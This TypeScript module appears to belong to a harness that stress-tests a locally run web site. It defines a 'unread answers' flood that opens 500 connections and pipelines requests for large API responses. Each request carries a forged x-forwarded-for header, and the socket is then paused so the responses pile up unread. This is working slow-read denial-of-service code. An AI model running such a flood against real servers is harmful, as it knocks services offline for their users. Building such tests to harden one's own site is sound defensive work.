import { connect, type Socket } from 'node:net';
import { ATTACKER } from '../attacked-site.ts';
import { untilOver, type Attack, type Flood } from '../flood.ts';

const CONNECTIONS = 500;
/** As many as a connection may pipeline. */
const REQUESTS = 9;
const PATHS = ['/api/docs-json', '/api/cardinaux?limit=1000', '/api/docs/swagger-ui-init.js'];

/** Pipelined requests for long answers that nobody reads. */
export const unreadAnswers: Flood = {
  name: 'unread answers',
  async run({ site, tally, signal }: Attack) {
    const sockets: Socket[] = [];
    for (let n = 0; n < CONNECTIONS; n += 1) {
      const request = [
        `GET ${PATHS[n % PATHS.length]} HTTP/1.1`,
        `host: 127.0.0.1:${site.port}`,
        `x-forwarded-for: ${ATTACKER.visitor}`,
        '\r\n',
      ];
      const socket = connect({ port: site.port, host: '127.0.0.1', localAddress: ATTACKER.localAddress });
      socket.on('error', () => undefined); // only closed
      socket.write(request.join('\r\n').repeat(REQUESTS));
      sockets.push(socket.pause());
    }
    tally.add('connections', CONNECTIONS);
    await untilOver(signal);
    for (const socket of sockets) socket.destroy();
  },
};
